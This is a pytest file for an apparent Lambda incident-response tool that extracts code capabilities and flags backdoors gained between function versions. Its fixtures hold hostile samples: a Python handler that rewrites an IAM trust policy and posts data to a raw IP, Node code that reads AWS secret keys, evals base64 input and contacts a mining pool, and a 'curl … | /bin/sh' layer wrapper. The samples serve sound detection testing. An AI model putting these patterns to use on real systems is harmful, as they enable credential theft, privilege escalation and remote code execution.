"""Capability extraction (Python ast, JavaScript tree-sitter, binaries, fallback), the
`capabilities` table, and the LIR-CAP detectors: firing and quiet."""

from __future__ import annotations

import base64
import hashlib
import time
from collections.abc import Callable

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lambda_ir.analyze.attribution import code_event
from lambda_ir.analyze.caseview import CaseView
from lambda_ir.analyze.detectors import cap_gained, cap_role_missing, cap_role_unused
from lambda_ir.capabilities.extract import Capability, Parser, extract, is_privileged_call
from lambda_ir.capabilities.javascript import MAX_TEMPLATE_NESTING
from lambda_ir.capabilities.python_ast import MAX_SUB_RESOURCES
from lambda_ir.evidence import Case
from lambda_ir.evidence.index import open_index
from lambda_ir.model import Severity
from tests.analyze.casebuild import (
    ACCOUNT,
    REGION,
    TERRAFORM,
    CaseBuilder,
    code_sha256,
    function_config,
    role_identity,
    run_detector,
    trail_event,
    zip_bytes,
)

BACKDOOR_PY = """import json
import urllib.request

import boto3

iam = boto3.client("iam")


def handler(event, context):
    role = event["detail"]["requestParameters"]["roleName"]
    iam.update_assume_role_policy(RoleName=role, PolicyDocument=json.dumps({}))
    urllib.request.urlopen("http://203.0.113.77/collect", data=role.encode())
"""
READER_PY = """import boto3

table = boto3.resource("dynamodb").Table("orders")
ddb = boto3.client("dynamodb")


def handler(event, context):
    item = ddb.get_item(TableName="orders", Key={"id": {"S": event["id"]}})
    return {"item": item.get("Item")}
"""
NODE_V3 = """import { IAMClient, AttachRolePolicyCommand } from "@aws-sdk/client-iam";
const { execSync } = require("node:child_process");
const AWS = require("aws-sdk");
const lam = new AWS.Lambda();
export const handler = async (event) => {
  await new IAMClient({}).send(new AttachRolePolicyCommand({ RoleName: event.r }));
  await lam.updateFunctionCode({ FunctionName: "x" }).promise();
  execSync(`curl -s ${event.u}`);
  const secret = process.env["AWS_SECRET_ACCESS_KEY"];
  eval(Buffer.from(event.p, "base64").toString());
  require("fs").writeFileSync("/var/task/index.js", "x");
  return fetch("stratum+tcp://pool.example.org:3333");
};
"""


def _found(name: str, source: str | bytes) -> set[tuple[str, str, int]]:
    data = source.encode() if isinstance(source, str) else source
    result = extract(name, data)
    assert result is not None
    return {(c.kind.value, c.value, c.line) for c in result.capabilities}


def test_python_calls_destinations_and_lines() -> None:
    found = _found("app.py", BACKDOOR_PY)
    assert ("aws-call", "iam:UpdateAssumeRolePolicy", 11) in found
    assert ("network", "http://203.0.113.77", 12) in found
    assert not {f for f in found if f[0] in ("exec", "credentials")}


def test_python_exec_credentials_dynamic_and_writes() -> None:
    source = (
        "import os, subprocess as sp, base64\nfrom os import system as run\n"
        "sp.check_output(['id'])\nrun('uname -a')\nk = os.environ['AWS_SESSION_TOKEN']\n"
        "open('/proc/self/environ').read()\nexec(base64.b64decode(k))\n"
        "open('/opt/x.py', 'w')\nopen('/tmp/fine', 'w')\nsts = boto3.client('sts')\n"
        "sts.assume_role(RoleArn='a', RoleSessionName='b')\ndata = dict(os.environ)\n"
    )
    found = _found("h.py", source)
    assert {
        ("exec", "subprocess.check_output", 3),
        ("exec", "os.system", 4),
        ("credentials", "AWS_SESSION_TOKEN", 5),
        ("credentials", "/proc/self/environ", 6),
        ("dynamic-code", "exec(base64.b64decode)", 7),
        ("fs-write", "/opt/x.py", 8),
        ("aws-call", "sts:AssumeRole", 11),
        ("credentials", "the whole environment (os.environ)", 12),
    } <= found
    assert not any(f[1] == "/tmp/fine" for f in found)


def test_javascript_sdk_v2_v3_exec_and_env() -> None:
    result = extract("index.mjs", NODE_V3.encode())
    assert result is not None and result.parser is Parser.JAVASCRIPT and result.note is None
    found = {(c.kind.value, c.value, c.line) for c in result.capabilities}
    assert {
        ("aws-call", "iam:AttachRolePolicy", 6),
        ("aws-call", "lambda:UpdateFunctionCode", 7),
        ("exec", "node:child_process.execSync", 8),
        ("credentials", "AWS_SECRET_ACCESS_KEY", 9),
        ("dynamic-code", "eval(…)", 10),
        ("fs-write", "/var/task/index.js", 11),
        ("network", "stratum+tcp://pool.example.org:3333", 12),
    } <= found


def test_broken_and_minified_files_fall_back_and_say_why() -> None:
    broken_py = extract("broken.py", b"def f(:\n    os.system('id')\n")
    assert broken_py is not None and broken_py.parser is Parser.FALLBACK
    assert broken_py.note and "does not parse as Python" in broken_py.note
    assert ("exec", "os.system", 2) in {(c.kind, c.value, c.line) for c in broken_py.capabilities}
    broken_js = extract("x.js", b"var a = ;; function ( { 'http://198.51.100.7:8080/p'")
    assert broken_js is not None and broken_js.parser is Parser.FALLBACK
    assert broken_js.note and "does not parse as JavaScript" in broken_js.note
    assert any(c.value == "http://198.51.100.7:8080" for c in broken_js.capabilities)
    minified = ("var a=1;" * 2000) + 'require("child_process").exec("id");'
    bundle = extract("bundle.min.js", minified.encode())
    assert bundle is not None and bundle.parser is Parser.FALLBACK
    assert bundle.note == "minified (longest line 16036 characters); read by patterns"
    assert {(c.kind, c.value, c.line) for c in bundle.capabilities} == {
        ("exec", "child_process", 1)
    }


# Valid Python nested as deep as `ast.parse` builds (a left-nested sum of 1,000 terms): a
# recursive walk of it ran out of stack, and the file's every capability was lost.
PADDED_BACKDOOR_PY = "PAD = " + "+".join(["1"] * 1000) + "\n" + BACKDOOR_PY


def test_python_nested_past_the_stack_is_still_read() -> None:
    result = extract("app.py", PADDED_BACKDOOR_PY.encode())
    assert result is not None and result.parser is Parser.PYTHON and result.note is None
    found = {(c.kind.value, c.value, c.line) for c in result.capabilities}
    assert ("aws-call", "iam:UpdateAssumeRolePolicy", 12) in found
    assert ("network", "http://203.0.113.77", 13) in found


def test_python_chains_past_the_stack_are_followed() -> None:
    # sub-resources are followed MAX_SUB_RESOURCES (64) deep: boto3's are a few deep, and every
    # call of a chain asks, so a thousand-call chain read its whole length a thousand times
    deep = '.Bucket("b")' * MAX_SUB_RESOURCES
    resources = f's3 = boto3.resource("s3")\nx = s3{deep}.put_object()\n'
    resources += "w = s3" + '.Bucket("b")' * 900 + ".put_object()\n"
    attributes = "y = q" + ".b" * 950 + '("http://203.0.113.5/z")\n'
    result = extract("app.py", f"import boto3\n{resources}{attributes}".encode())
    assert result is not None and result.parser is Parser.PYTHON
    found = {(c.kind.value, c.value, c.line) for c in result.capabilities}
    assert {("aws-call", "s3:PutObject", 3), ("network", "http://203.0.113.5", 5)} <= found
    assert ("aws-call", "s3:PutObject", 4) not in found  # past the sub-resources followed


def test_javascript_chain_past_the_stack_is_still_read() -> None:
    chain = "const x = a" + "\n  .b" * 5000 + ";\n"
    source = chain + 'require("child_process").execSync("curl http://203.0.113.8/x");\n'
    result = extract("index.js", source.encode())
    assert result is not None and result.parser is Parser.JAVASCRIPT
    found = {(c.kind.value, c.value, c.line) for c in result.capabilities}
    assert ("exec", "child_process.execSync", 5002) in found
    assert ("network", "http://203.0.113.8", 5002) in found


# Hostile shapes of code we read (an attacker writes it), one link or level a line (as in a
# bundle that is not minified): chains and nests of 250-450 KiB, 64 KiB of templates, 1 MiB
# of URLs, each built from its count of links or levels. Each reads in 0.1-0.8 s, four times
# as many in about four times as long. The old reader took 16-41 s on each chain (a
# tree-sitter query slowed down below 65,535 levels of the tree, and its `#match?` read each
# link's whole text), 6 s on the nested calls, 29 s on the templates (each read whole at
# every level), 27 s on the URLs (each address checked against every URL, each match's line
# read to its end): quadratic, sixteen times as long for four times as much.
HOSTILE_JS: dict[str, tuple[Callable[[int], str], int, Parser]] = {
    "member chain": (lambda n: "const x = a" + "\n.b" * n + ";\n", 87_000, Parser.JAVASCRIPT),
    "call chain": (lambda n: "a" + "\n.b()" * n + ";\n", 52_000, Parser.JAVASCRIPT),
    "require chain": (
        lambda n: 'require("child_process")' + "\n.b()" * n + ";\n",
        52_000,
        Parser.JAVASCRIPT,
    ),
    "process.env chain": (lambda n: "process.env" + "\n.b" * n + ";\n", 87_000, Parser.JAVASCRIPT),
    "nested calls": (lambda n: "f(\n" * n + "x" + ")\n" * n + ";\n", 50_000, Parser.JAVASCRIPT),
    "nested templates": (
        lambda n: "`${\n" * n + "x" + "}`\n" * n + ";\n",
        9_000,
        Parser.JAVASCRIPT,
    ),
    # Each index of `process.env[…]` was read whole: 3-5 s for 512 KiB of them.
    "nested process.env subscripts": (
        lambda n: "process.env[\n" * n + "x" + "]\n" * n + ";\n",
        30_000,
        Parser.JAVASCRIPT,
    ),
    # What `process.env` is read through (`javascript_names`): each wrapper and link asks.
    "nested parentheses": (
        lambda n: "(\n" * n + "process" + ")\n" * n + ".env.X;\n",
        100_000,
        Parser.JAVASCRIPT,
    ),
    "nested commas": (
        lambda n: "(0,\n" * n + "process" + ")\n" * n + ".env.X;\n",
        60_000,
        Parser.JAVASCRIPT,
    ),
    "optional chain": (
        lambda n: "process?.env" + "\n?.b" * n + ";\n",
        87_000,
        Parser.JAVASCRIPT,
    ),
    "env chain": (lambda n: "process" + "\n.env" * n + ";\n", 70_000, Parser.JAVASCRIPT),
    "URLs holding addresses": (
        lambda n: "const t = `" + "http://a.example/?1.2.3.4\n" * n + "`;\n",
        40_000,
        Parser.JAVASCRIPT,
    ),
    "minified URLs holding addresses": (
        lambda n: "var t = '" + "http://a.example/?1.2.3.4 " * n + "';\n",
        40_000,
        Parser.FALLBACK,
    ),
}


def _read_time(source: bytes, parser: Parser) -> float:
    began = time.perf_counter()
    result = extract("bundle.js", source)
    spent = time.perf_counter() - began
    assert result is not None and result.parser is parser, result
    return spent


@pytest.mark.parametrize("shape", sorted(HOSTILE_JS))
def test_javascript_hostile_shapes_are_read_in_linear_time(shape: str) -> None:
    """Four times the shape takes under ten times as long (about four now; sixteen when
    quadratic), each size timed twice, in turn, and its quicker time kept: a ratio in one
    run holds on a slow or loaded machine, where a limit in seconds did not (2.006 s)."""
    build, count, parser = HOSTILE_JS[shape]
    small, big = build(count // 4).encode(), build(count).encode()
    times: dict[bytes, list[float]] = {small: [], big: []}
    for _ in range(2):
        for source in (small, big):
            times[source].append(_read_time(source, parser))
    quick, slow = min(times[small]), min(times[big])
    assert slow < 10 * quick + 0.05, f"{shape}: {quick:.2f} s, then {slow:.2f} s for 4x"


def test_javascript_capabilities_buried_past_tree_sitter_depth_are_found() -> None:
    """Below 65,535 levels of the tree the old query skipped nodes: a call at the root of a
    long chain, or nested in 40,000 calls, was not seen."""
    lines = 40_001
    nested = "f(\n" * 40_000 + 'require("child_process").exec("id")' + ")\n" * 40_000 + ";\n"
    chained = 'require("child_process").execSync("curl http://203.0.113.8/x")'
    chained += "\n.toString()" * 40_000 + ";\n"
    padded = "const k = process.env.AWS_SECRET_ACCESS_KEY" + "\n.trim()" * 40_000 + ";\n"
    client = 'const AWS = require("aws-sdk");\nconst iam = new AWS.IAM();\n'
    client += "iam.createUser({})" + "\n.promise()" * 40_000 + ";\n"
    found = {
        (c.kind.value, c.value, c.line)
        for text in (nested, chained, padded, client)
        for c in _capabilities("index.js", text)
    }
    assert {
        ("exec", "child_process.exec", lines),
        ("exec", "child_process.execSync", 1),
        ("network", "http://203.0.113.8", 1),
        ("credentials", "AWS_SECRET_ACCESS_KEY", 1),
        ("aws-call", "iam:CreateUser", 3),
    } <= found


def test_javascript_templates_nested_past_the_cap_are_read_at_their_own_lines() -> None:
    """Templates nested past MAX_TEMPLATE_NESTING leave out the ones nested in them (read on
    their own): the URL is found where it is, and at the lines of the outer templates."""
    levels = MAX_TEMPLATE_NESTING + 3
    source = "const t = " + "`${\n" * levels + "`http://203.0.113.9/x`" + "}`\n" * levels + ";\n"
    lines = {c.line for c in _capabilities("page.js", source) if c.value == "http://203.0.113.9"}
    assert lines == {*range(1, MAX_TEMPLATE_NESTING + 1), levels + 1}


def test_javascript_byte_not_utf8_in_a_chain_loses_nothing() -> None:
    """A byte that is not UTF-8 in a member expression made the old query raise, and the
    file went unread: Node reads it as U+FFFD, and so does the reader."""
    source = b'const cp = require("child_process");\nconst a = b/*\xff*/.c;\ncp.execSync("id");\n'
    result = extract("index.js", source)
    assert result is not None and result.parser is Parser.JAVASCRIPT
    assert ("exec", "child_process.execSync", 3) in {
        (c.kind.value, c.value, c.line) for c in result.capabilities
    }


def _capabilities(name: str, source: str) -> tuple[Capability, ...]:
    result = extract(name, source.encode())
    assert result is not None and result.parser is Parser.JAVASCRIPT, result
    return result.capabilities


def test_binary_symbols_and_strings() -> None:
    blob = (
        b"\x7fELF\x02\x01\x01"
        + b"\x00" * 9
        + b"popen\x00execve\x00stratum+tcp://p.example:3333\x00"
    )
    result = extract("bin/helper", blob)
    assert result is not None and result.parser is Parser.BINARY
    values = {(c.kind.value, c.value) for c in result.capabilities}
    assert {("exec", "symbol popen"), ("exec", "symbol execve")} <= values
    assert ("network", "stratum+tcp://p.example:3333") in values


def test_benign_reader_and_non_code_files() -> None:
    assert _found("app.py", READER_PY) == {
        ("aws-call", "dynamodb:GetItem", 8),
    }
    assert extract("logo.png", b"\x89PNG\r\n") is None
    # Loopback and the Runtime API are not outbound destinations.
    assert _found("r.py", "URL = 'http://127.0.0.1:9001/2018-06-01/runtime'\n") == set()


ROLE_ARN = f"arn:aws:iam::{ACCOUNT}:role/fn-role"


def _role(builder: CaseBuilder, statements: list[dict]) -> None:
    builder.put(
        f"raw/{ACCOUNT}/global/iam/roles/fn-role/role.json",
        {"Role": {"RoleName": "fn-role", "Arn": ROLE_ARN}},
        "role",
        "iam:GetRole",
        RoleName="fn-role",
    )
    builder.put(
        f"raw/{ACCOUNT}/global/iam/roles/fn-role/inline.json",
        {"RoleName": "fn-role", "PolicyName": "p",
         "PolicyDocument": {"Version": "2012-10-17", "Statement": statements}},
        "role-policy",
        "iam:GetRolePolicy",
        RoleName="fn-role",
        PolicyName="p",
    )  # fmt: skip


def _function(
    builder: CaseBuilder, name: str, releases: list[str | bytes], file: str = "app.py"
) -> None:
    configs = []
    for number, source in enumerate(releases, start=1):
        blob = zip_bytes({file: source, "README.txt": "docs"})
        builder.code(blob, name, str(number))
        configs.append(function_config(name, str(number), code=blob, role=ROLE_ARN))
    builder.versions(name, configs)


def test_capabilities_table_per_version(builder: CaseBuilder) -> None:
    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
    layer_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:hooks:3"
    hook = zip_bytes({"bin/wrapper": "#!/bin/sh\ncurl -s http://198.51.100.9/x | /bin/sh\n"})
    builder.layer(layer_arn, hook)
    broken = zip_bytes({"index.js": "module.exports = (;", "app.py": READER_PY})
    builder.code(broken, "mixed", "1")
    builder.versions(
        "mixed",
        [function_config("mixed", "1", code=broken, role=ROLE_ARN, layers=[layer_arn])],
    )
    con = open_index(Case.open(builder.root))
    rows = con.execute(
        "SELECT version, file, line, kind, value, parser FROM capabilities "
        "WHERE function_name = 'notifier' ORDER BY version, line"
    ).fetchall()
    assert ("1", "app.py", 8, "aws-call", "dynamodb:GetItem", "python-ast") in rows
    assert ("2", "app.py", 11, "aws-call", "iam:UpdateAssumeRolePolicy", "python-ast") in rows
    files = con.execute("SELECT file, parser FROM capability_files ORDER BY file").fetchall()
    assert ("README.txt", "text-patterns") in files and ("app.py", "python-ast") in files
    (note,) = con.execute("SELECT note FROM capability_files WHERE file = 'index.js'").fetchone()
    assert note == "does not parse as JavaScript: syntax error near line 1"
    layered = con.execute(
        "SELECT source, layer_arn, file, line, kind, value FROM capabilities "
        "WHERE function_name = 'mixed' ORDER BY source, line, kind"
    ).fetchall()
    assert layered == [
        ("code", None, "app.py", 8, "aws-call", "dynamodb:GetItem"),
        ("layer", layer_arn, "bin/wrapper", 2, "exec", "/bin/sh"),
        ("layer", layer_arn, "bin/wrapper", 2, "network", "http://198.51.100.9"),
    ]
    assert isinstance(con, duckdb.DuckDBPyConnection)


def test_gained_capabilities_fire_naming_lines(builder: CaseBuilder) -> None:
    _role(builder, [{"Effect": "Allow", "Action": "dynamodb:GetItem", "Resource": "*"}])
    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
    found = _run(builder, cap_gained.DETECTOR)
    assert len(found) == 1
    finding = found[0]
    assert finding.resource.endswith("function:notifier:2") and finding.severity is Severity.HIGH
    assert "iam:UpdateAssumeRolePolicy (app.py:11)" in finding.summary
    assert "http://203.0.113.77 (app.py:12)" in finding.summary
    assert "over version 1" in finding.summary
    assert {ref.member for ref in finding.evidence} == {"app.py"}
    assert finding.details["line"] == 11
    missing = _run(builder, cap_role_missing.DETECTOR)
    assert len(missing) == 1 and "iam:UpdateAssumeRolePolicy" in missing[0].summary
    assert missing[0].severity is Severity.MEDIUM


def test_a_gain_padded_past_the_stack_still_fires(builder: CaseBuilder) -> None:
    _role(builder, [{"Effect": "Allow", "Action": "dynamodb:GetItem", "Resource": "*"}])
    _function(builder, "notifier", [READER_PY, PADDED_BACKDOOR_PY])
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert "iam:UpdateAssumeRolePolicy (app.py:12)" in finding.summary


def test_a_gain_through_a_hidden_sdk_class_is_high(builder: CaseBuilder) -> None:
    """`new AWS[k]()` hides the service: its `createUser` call is `[computed]:CreateUser`,
    which may be IAM's, so gaining it is HIGH, as `iam:CreateUser` is."""
    _role(builder, [{"Effect": "Allow", "Action": "dynamodb:GetItem", "Resource": "*"}])
    hidden = (
        'const AWS = require("aws-sdk");\nconst c = new AWS["IA" + "M"]();\nc.createUser({});\n'
    )
    _function(builder, "notifier", ['exports.handler = async () => "ok";\n', hidden], "index.js")
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert "[computed]:CreateUser (index.js:3)" in finding.summary


def test_python_computed_services_and_getattr_calls_are_followed() -> None:
    """A boto3 client whose service is computed (a variable, an f-string with a part filled
    in, a session's `service_name=`) is `[computed]`, and `getattr(client, name)(...)` is
    the named operation or `[computed]`; any other library's `x.client(y)` is not a client."""
    source = (
        "import os, boto3\nsvc = os.environ['SVC']\nc = boto3.client(svc)\n"
        "c.create_user(UserName='x')\nd = boto3.client(f\"i{'am'}\")\nd.attach_user_policy()\n"
        "s = boto3.Session()\ne = s.client(service_name=svc)\ne.create_role()\n"
        "iam = boto3.client('iam')\ngetattr(iam, 'create_access_key')(UserName='x')\n"
        "getattr(iam, os.environ['OP'])()\ngetattr(iam, 'meta')\n"
        "x = requests.client(svc)\nx.create_thing()\n"
    )
    assert {f for f in _found("app.py", source) if f[0] == "aws-call"} == {
        ("aws-call", "[computed]:CreateUser", 4),
        ("aws-call", "[computed]:AttachUserPolicy", 6),
        ("aws-call", "[computed]:CreateRole", 9),
        ("aws-call", "iam:CreateAccessKey", 11),
        ("aws-call", "iam:[computed]", 12),
    }


def test_python_clients_are_boto3s_by_their_receiver_not_a_session_in_a_name() -> None:
    """`boto3.Session().client(svc)` and `**kwargs` hide the service of a boto3 client as a
    variable does (`**{"service_name": "iam"}` spells it); a computed name on another
    library's session (`http_session.resource(p)`) is no AWS client, whatever it is called."""
    source = (
        "import boto3\nfrom boto3.session import Session\nimport requests\n"
        "boto3.Session().client(svc).create_user(UserName='x')\n"
        "Session().resource(service_name=svc).create_role()\n"
        "boto3.client(**{'service_name': 'iam'}).attach_user_policy()\n"
        "c = boto3.client(**options)\nc.put_role_policy()\n"
        "boto3.client(**{'region_name': r, 'service_name': f'l{x}'}).update_function_code()\n"
        "class A:\n  def __init__(self):\n    self.session = boto3.Session()\n"
        "  def f(self, svc):\n    self.session.client(svc).create_access_key()\n"
        "http_session = requests.Session()\nhttp_session.resource(p).put_thing()\n"
        "my_session.client(x).delete_all()\nself.db_session.client(svc).update_record()\n"
        "requests.Session().client(**kw).do_it()\nhttp_session.client('sqs').send_message()\n"
    )
    assert {f for f in _found("app.py", source) if f[0] == "aws-call"} == {
        ("aws-call", "[computed]:CreateUser", 4),
        ("aws-call", "[computed]:CreateRole", 5),
        ("aws-call", "iam:AttachUserPolicy", 6),
        ("aws-call", "[computed]:PutRolePolicy", 8),
        ("aws-call", "[computed]:UpdateFunctionCode", 9),
        ("aws-call", "[computed]:CreateAccessKey", 14),
        ("aws-call", "sqs:SendMessage", 20),  # a literal service: as before, on any receiver
    }


def test_a_python_gain_through_a_computed_service_is_high(builder: CaseBuilder) -> None:
    """Python's `boto3.client(name)` hides the service as `new AWS[k]()` does: gaining its
    `create_user` is HIGH, as `iam:CreateUser` is."""
    _role(builder, [{"Effect": "Allow", "Action": "dynamodb:GetItem", "Resource": "*"}])
    hidden = "import boto3\nc = boto3.client('i' + 'am')\nc.create_user(UserName='x')\n"
    _function(builder, "notifier", [READER_PY, hidden])
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert "[computed]:CreateUser (app.py:3)" in finding.summary


@pytest.mark.parametrize(
    ("value", "privileged"),
    [
        ("iam:[computed]", True),
        ("lambda:[computed]", True),
        ("sts:[computed]", True),
        ("[computed]:CreateUser", True),
        ("[computed]:AssumeRole", True),
        ("[computed]:ListUsers", False),
        ("s3:[computed]", False),
        ("[computed]:[computed]", True),
    ],
)
def test_a_hidden_service_or_operation_is_privileged_unless_it_cannot_be(
    value: str, privileged: bool
) -> None:
    assert is_privileged_call(value) is privileged


def _releases(last_from: str, last_agent: str, last_hour: int = 10) -> list[dict]:
    """CI's ten days of releasing `notifier` at 10:00 from its runners with Terraform; the
    tenth uploads version 2's code (its CodeSha256) from `last_from` with `last_agent`, at
    `last_hour`."""
    backdoor = code_sha256(zip_bytes({"app.py": BACKDOOR_PY, "README.txt": "docs"}))
    return [
        trail_event(
            "UpdateFunctionCode20150331v2",
            {"functionName": "notifier", "publish": True},
            response={"codeSha256": backdoor if day == 10 else f"sha-{day}"},
            identity=role_identity("ci", f"run-{day}"),
            event_id=f"r{day:02d}",
            time=f"2026-10-{day:02d}T{last_hour if day == 10 else 10:02d}:00:00Z",
            user_agent=last_agent if day == 10 else TERRAFORM,
            source_ip=last_from if day == 10 else "192.0.2.10",
        )
        for day in range(1, 11)
    ]


def test_a_gain_uploaded_off_the_paths_is_its_uploaders_act(builder: CaseBuilder) -> None:
    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
    builder.trail(_releases("203.0.113.9", "aws-cli/2.15.0 Python/3.11"))
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert finding.actor is not None and finding.actor.arn.endswith("assumed-role/ci/run-10")
    assert finding.time == "2026-10-10T10:00:00Z" and finding.details["event_id"] == "r10"
    assert "Brought in by arn:aws:sts::" in finding.summary
    assert "UpdateFunctionCode at 2026-10-10T10:00:00Z" in finding.summary
    # the verdict that made it an act: what was new, for the incident to say and join by
    assert finding.details["baseline"]["new"] == ["network", "tool"]
    code, upload = finding.evidence
    assert code.member == "app.py" and upload.path.startswith("trail/")


def test_a_layer_gain_is_the_act_of_the_call_that_attached_the_layer(
    builder: CaseBuilder,
) -> None:
    layer_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:hooks:3"
    builder.layer(
        layer_arn, zip_bytes({"bin/wrapper": "#!/bin/sh\ncurl -s http://198.51.100.9/x\n"})
    )
    blob = zip_bytes({"app.py": READER_PY})
    builder.code(blob, "mixed", "1")
    builder.code(blob, "mixed", "2")
    builder.versions(
        "mixed",
        [
            function_config("mixed", "1", code=blob, role=ROLE_ARN),
            function_config("mixed", "2", code=blob, role=ROLE_ARN, layers=[layer_arn]),
        ],
    )
    calls = [  # the CI's timeout changes, then someone's layer from a new network at night
        trail_event(
            "UpdateFunctionConfiguration20150331v2",
            {"functionName": "mixed", "layers": [layer_arn]} if day == 10 else
            {"functionName": "mixed", "timeout": 30},
            identity=role_identity("ci", f"run-{day}"),
            event_id=f"c{day:02d}",
            time=f"2026-10-{day:02d}T{'03' if day == 10 else '10'}:00:00Z",
            user_agent=TERRAFORM,
            source_ip="203.0.113.9" if day == 10 else "192.0.2.10",
        )
        for day in range(1, 11)
    ]  # fmt: skip
    builder.trail(calls)
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.resource.endswith("function:mixed:2") and finding.severity is Severity.HIGH
    assert finding.details["event_id"] == "c10" and finding.time == "2026-10-10T03:00:00Z"
    assert "UpdateFunctionConfiguration at 2026-10-10T03:00:00Z" in finding.summary


def test_a_gain_in_a_hotfix_after_hours_stays_exposure(builder: CaseBuilder) -> None:
    # one new thing (the hour) about CI's own release: a hotfix, not an act to contain
    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
    builder.trail(_releases("192.0.2.10", TERRAFORM, last_hour=2))
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.actor is None and "baseline" not in finding.details


def test_a_rolled_back_backdoor_is_the_act_of_its_second_upload(builder: CaseBuilder) -> None:
    # versions: reader, backdoor (CI, day 5), reader (CI, day 8), the same backdoor bytes
    # again (day 12 at 03:00 from another network with the CLI)
    sources = [READER_PY, BACKDOOR_PY, READER_PY, BACKDOOR_PY]
    _function(builder, "notifier", sources)
    shas = [code_sha256(zip_bytes({"app.py": s, "README.txt": "docs"})) for s in sources]
    calls = [
        trail_event(
            "UpdateFunctionCode20150331v2",
            {"functionName": "notifier", "publish": True},
            response={"codeSha256": shas[version - 1], "version": str(version)}
            if version else {"codeSha256": f"sha-{day}"},
            identity=role_identity("ci", f"run-{day}"),
            event_id=f"r{day:02d}",
            time=f"2026-10-{day:02d}T{'03' if day == 12 else '10'}:00:00Z",
            user_agent=UA_CLI if day == 12 else TERRAFORM,
            source_ip="203.0.113.9" if day == 12 else "192.0.2.10",
        )
        for day, version in ((1, 1), (2, 0), (3, 0), (4, 0), (5, 2), (6, 0), (8, 3), (12, 4))
    ]  # fmt: skip
    builder.trail(calls)
    found = {f.resource.rsplit(":", 1)[-1]: f for f in _run(builder, cap_gained.DETECTOR)}
    assert sorted(found) == ["2", "4"]
    assert found["2"].actor is None  # CI's release along its path
    assert found["4"].details["event_id"] == "r12" and found["4"].time == "2026-10-12T03:00:00Z"


def test_a_later_upload_of_the_same_bytes_did_not_make_a_published_version(
    builder: CaseBuilder,
) -> None:
    # version 2 was published on day 3 (its upload is older than the trail); stolen keys
    # upload the same bytes again on day 12: that upload did not make version 2
    blobs = [zip_bytes({"app.py": s, "README.txt": "docs"}) for s in (READER_PY, BACKDOOR_PY)]
    for number, blob in enumerate(blobs, start=1):
        builder.code(blob, "notifier", str(number))
    builder.versions(
        "notifier",
        [
            function_config("notifier", str(n), code=b, role=ROLE_ARN)
            for n, b in enumerate(blobs, 1)
        ],
    )
    calls = [c for c in _releases("203.0.113.9", UA_CLI, last_hour=3) if c["eventID"] != "r03"]
    calls.append(
        trail_event(
            "PublishVersion20150331",
            {"functionName": "notifier"},
            response={"codeSha256": code_sha256(blobs[1]), "version": "2"},
            identity=role_identity("ci", "run-3"),
            event_id="pub",
            time="2026-10-03T10:00:00Z",
            user_agent=TERRAFORM,
            source_ip="192.0.2.10",
        )
    )
    builder.trail(calls)
    view = CaseView(Case.open(builder.root))
    version = next(c for c in view.functions if c.ref.qualifier == "2")
    event = code_event(view, version)
    assert event is not None and event.event_id == "pub"
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.actor is None  # a publication only froze bytes uploaded unseen


@pytest.mark.parametrize(
    ("last_modified", "maker"),
    [
        # its upload and publication older than the trail; the same bytes uploaded on day 10
        # are a rollback's, not version 2's maker
        ("2026-10-03T09:59:00.000+0000", None),
        # LastModified two seconds before the upload's CloudTrail time: the clocks
        ("2026-10-10T02:59:58.000+0000", "r10"),
    ],
    ids=["days-before", "clock-skew"],
)
def test_an_upload_long_after_a_versions_last_change_did_not_make_it(
    builder: CaseBuilder, last_modified: str, maker: str | None
) -> None:
    blobs = [zip_bytes({"app.py": s, "README.txt": "docs"}) for s in (READER_PY, BACKDOOR_PY)]
    for number, blob in enumerate(blobs, start=1):
        builder.code(blob, "notifier", str(number))
    configs = [
        function_config("notifier", str(n), code=b, role=ROLE_ARN) for n, b in enumerate(blobs, 1)
    ]
    configs[1]["LastModified"] = last_modified
    builder.versions("notifier", configs)
    builder.trail(_releases("203.0.113.9", UA_CLI, last_hour=3))
    view = CaseView(Case.open(builder.root))
    version = next(c for c in view.functions if c.ref.qualifier == "2")
    event = code_event(view, version)
    assert (event.event_id if event else None) == maker


def test_a_layer_attached_off_the_paths_is_not_hidden_by_a_code_release(
    builder: CaseBuilder,
) -> None:
    # version 2: CI's usual release (a new host name) and a layer (exec, raw IP) someone
    # attached at 03:00 from another network with the CLI
    layer_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:hooks:1"
    decoy = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:hooks:10"  # not the same layer
    builder.layer(layer_arn, zip_bytes({"bin/w": "#!/bin/sh\ncurl -s http://198.51.100.9/x\n"}))
    sources = [READER_PY, READER_PY.replace("orders", "https://api.partner.example/orders")]
    blobs = [zip_bytes({"app.py": s, "README.txt": "docs"}) for s in sources]
    for number, blob in enumerate(blobs, start=1):
        builder.code(blob, "notifier", str(number))
    builder.versions(
        "notifier",
        [
            function_config("notifier", "1", code=blobs[0], role=ROLE_ARN),
            function_config("notifier", "2", code=blobs[1], role=ROLE_ARN, layers=[layer_arn]),
        ],
    )
    calls = [*_releases("192.0.2.10", TERRAFORM)]
    calls[-1]["responseElements"]["codeSha256"] = code_sha256(blobs[1])
    for n, (arn, address) in enumerate(((layer_arn, "203.0.113.9"), (decoy, "192.0.2.10"))):
        calls.append(
            trail_event(
                "UpdateFunctionConfiguration20150331v2",
                {"functionName": "notifier", "layers": [arn]},
                identity=role_identity("ci", f"attach-{n}"),
                event_id=f"c{n}",
                time=f"2026-10-10T{3 + n:02d}:00:00Z",
                user_agent=UA_CLI,
                source_ip=address,
            )
        )
    builder.trail(calls)
    (finding,) = _run(builder, cap_gained.DETECTOR)
    assert finding.severity is Severity.HIGH and finding.details["event_id"] == "c0"


